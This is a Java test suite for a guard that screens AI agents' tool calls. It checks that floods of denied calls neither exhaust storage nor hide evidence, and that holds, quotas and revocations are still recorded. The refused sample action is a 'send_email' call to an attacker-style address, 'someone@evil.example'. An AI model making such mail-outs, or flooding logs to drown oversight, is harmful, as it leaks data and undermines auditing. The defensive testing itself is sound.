package dev.writ.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import dev.writ.base.Id;
import dev.writ.base.Json;
import dev.writ.base.Name;
import dev.writ.guard.Action;
import dev.writ.guard.Attempt;
import dev.writ.guard.Caller;
import dev.writ.guard.Held;
import dev.writ.guard.Permit;
import dev.writ.guard.Presented;
import dev.writ.guard.Refusal;
import dev.writ.walks.Product;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Tries to fill the disk, or to drown the evidence, with attempts that are refused. */
class DenialFloodTest {
    private static final int SOME = 11_000;
    private static final int MANY = 50_000;

    @TempDir
    private Path data;

    private Product product;

    @BeforeEach
    void start() {
        product = Product.start(data, settings -> settings.toBuilder()
                .hold(Duration.ZERO)
                .refusalsPerSecond(20)
                .refusalMegabytesPerDay(256)
                .refusalWindow(Duration.ofHours(1))
                .build());
    }

    @AfterEach
    void stop() {
        product.close();
    }

    @Test
    void theSameDeniedCallAgainAndAgainIsOneRecordAndAFewCounts() throws IOException {
        same(SOME);
    }

    @Test
    @Tag("extended")
    void theSameDeniedCallFiftyThousandTimesIsOneRecordAndAFewCounts() throws IOException {
        same(MANY);
    }

    private void same(int flood) throws IOException {
        var caller = agent(product.open(Product.TaskSpec.SUPPORT));
        long calls = product.calls();
        long bytes = bytes();
        var decisions = java.util.stream.IntStream.range(0, flood)
                .mapToObj(_ -> refused(caller, mail("x")).decision())
                .collect(Collectors.toSet());
        assertThat(decisions).as("all are told of the one that is recorded").hasSize(1);
        flush(caller);
        var refusals = refusals();
        assertThat(refusals).hasSize(1 + (flood - 1 + 9_999) / 10_000);
        assertThat(refusals.getFirst().get("count")).isEmpty();
        assertThat(refusals.stream()
                        .mapToLong(r -> r.integer("count").orElse(1L))
                        .sum())
                .isEqualTo(flood);
        for (var counted : refusals.subList(1, refusals.size())) {
            assertThat(counted.string("like"))
                    .contains(decisions.iterator().next().text());
            assertThat(counted.string("first").orElseThrow())
                    .isLessThanOrEqualTo(counted.string("last").orElseThrow());
            assertThat(counted.object("action")).isEqualTo(refusals.getFirst().object("action"));
        }
        assertThat(bytes() - bytes).isLessThan(200_000);
        assertThat(product.calls()).as("the server has received nothing").isEqualTo(calls);
        assertThat(product.parts().guard().turnedAway(Product.TENANT).folded()).isEqualTo(flood - 1);
    }

    @Test
    void manyDifferentDeniedCallsStayWithinTheQuotaAndRevocationIsStillRecorded() throws IOException {
        different(SOME);
    }

    @Test
    @Tag("extended")
    void fiftyThousandDifferentDeniedCallsStayWithinTheQuotaAndRevocationIsStillRecorded() throws IOException {
        different(MANY);
    }

    private void different(int flood) throws IOException {
        var task = product.open(Product.TaskSpec.SUPPORT);
        var caller = agent(task);
        var other = agent(product.open(Product.TaskSpec.SUPPORT.of(Product.OTHER_BOT)), Product.OTHER_BOT);
        long calls = product.calls();
        long bytes = bytes();
        long from = System.nanoTime();
        for (int i = 0; i < flood; i++) refused(caller, mail("note " + i));
        long seconds = 1 + (System.nanoTime() - from) / 1_000_000_000;
        // A quarter of 20 a second for one caller, ten seconds' worth at once.
        long most = 50 + 5 * seconds + 10;
        flush(caller);
        assertThat((long) refusals().size()).isBetween(10L, most);
        assertThat(refusals().stream()
                        .mapToLong(r -> r.integer("count").orElse(1L))
                        .sum())
                .isEqualTo(flood);
        assertThat(bytes() - bytes).isLessThan(most * 12_000);
        assertThat(product.calls()).isEqualTo(calls);
        // Another agent's refusals keep their detail.
        var told = refused(other, mail("mine")).decision();
        assertThat(product.lastOf("refusal").string("decision")).contains(told.text());
        // And taking authority away is recorded as ever.
        long revocations = product.countOf("revocation");
        var revoked =
                product.wiring.parts().control().tasks().revoke(product.caller(product.owner), task.text(), "flood");
        assertThat(revoked).isInstanceOf(dev.writ.guard.control.Reply.Done.class);
        assertThat(product.countOf("revocation") + product.countOf("task")).isGreaterThan(revocations);
        assertThat(refused(caller, mail("x")).reason()).isInstanceOf(Refusal.TaskEnded.class);
    }

    @Test
    void attemptsWithoutACredentialCostNoRecord() throws IOException {
        long before = product.records().size();
        long bytes = bytes();
        for (int i = 0; i < 300; i++)
            assertThat(product.parts().guard().callerOf(Presented.bearer("writ_" + "x".repeat(40) + i)))
                    .isEmpty();
        assertThat(product.records()).hasSize((int) before);
        assertThat(bytes() - bytes).isLessThan(100_000);
        assertThat(product.parts().guard().turnedAway(Product.TENANT).unknown()).isGreaterThanOrEqualTo(300);
    }

    @Test
    void permitsAndHoldsAreNeverFolded() {
        var caller = agent(product.open(Product.TaskSpec.SUPPORT));
        for (int i = 0; i < 20; i++) {
            assertThat(product.parts().guard().admit(new Attempt(caller, order())))
                    .isInstanceOf(Permit.class);
            assertThat(product.parts().guard().admit(new Attempt(caller, refund())))
                    .isInstanceOf(Held.class);
        }
        assertThat(product.countOf("hold")).isEqualTo(20);
        assertThat(product.records().stream()
                        .filter(r -> r.string("kind").equals(Optional.of("intent")))
                        .map(r -> r.string("decision"))
                        .distinct()
                        .count())
                .isGreaterThanOrEqualTo(20);
    }

    @Test
    void holdsThatAreAskedForWithoutEndAreRefusedAtTheQuota() {
        var caller = agent(product.open(Product.TaskSpec.SUPPORT));
        int held = 0;
        for (int i = 0; i < 2_000; i++)
            if (product.parts().guard().admit(new Attempt(caller, refund())) instanceof Held) held++;
        assertThat(held).isBetween(40, 200);
        assertThat(product.countOf("hold")).isEqualTo(held);
    }

    @Test
    void anotherReasonTaskOrArgumentIsAnotherRecord() {
        var task = product.open(Product.TaskSpec.SUPPORT);
        var caller = agent(task);
        var decisions = Set.of(
                refused(caller, mail("a")).decision(),
                refused(caller, mail("b")).decision(),
                refused(agent(product.open(Product.TaskSpec.SUPPORT)), mail("a"))
                        .decision(),
                refused(agent(task), mail("a")).decision());
        assertThat(decisions).hasSize(4);
        assertThat(refusals()).hasSize(4);
    }

    /** Writes the counts, and waits for them: a record that is waited for is written after them. */
    private void flush(Caller.OfAgent caller) {
        product.parts().guard().close();
        assertThat(product.parts().guard().admit(new Attempt(caller, order()))).isInstanceOf(Permit.class);
    }

    private Refusal refused(Caller.OfAgent caller, Action action) {
        if (product.parts().guard().admit(new Attempt(caller, action)) instanceof Refusal refusal) return refusal;
        throw new AssertionError("not refused");
    }

    private List<Json.Obj> refusals() {
        return product.records().stream()
                .filter(record -> record.string("kind").equals(Optional.of("refusal")))
                .toList();
    }

    private Caller.OfAgent agent(Id task) {
        return agent(task, Product.BOT);
    }

    private Caller.OfAgent agent(Id task, Name agent) {
        return (Caller.OfAgent) product.parts()
                .guard()
                .callerOf(Presented.bearer(product.key(agent, task)))
                .orElseThrow();
    }

    private static Action mail(String text) {
        return call(
                "send_email",
                Json.object()
                        .put("to", "someone@evil.example")
                        .put("subject", "s")
                        .put("body", text)
                        .build());
    }

    private static Action order() {
        return call("get_order", Json.object().put("order", "1001").build());
    }

    private static Action refund() {
        return call(
                "create_refund",
                Json.object()
                        .put("order", "1001")
                        .put("amount", 900)
                        .put("currency", "EUR")
                        .build());
    }

    private static Action call(String tool, Json.Obj input) {
        var payload = Json.object()
                .put("method", "tools/call")
                .put(
                        "params",
                        Json.object().put("name", tool).put("arguments", input).build())
                .build();
        return new Action.CallTool(Product.SHOP, tool, input, payload);
    }

    /** Of the ledger and its side store; the write-ahead file has its size from the beginning. */
    private long bytes() throws IOException {
        product.parts().ledger().checkpoint(Product.TENANT);
        long sum = 0;
        for (var part : List.of("ledger", "side")) {
            if (!Files.exists(data.resolve(part))) continue;
            try (var files = Files.walk(data.resolve(part))) {
                for (var file : files.filter(Files::isRegularFile).toList()) sum += Files.size(file);
            }
        }
        return sum;
    }
}
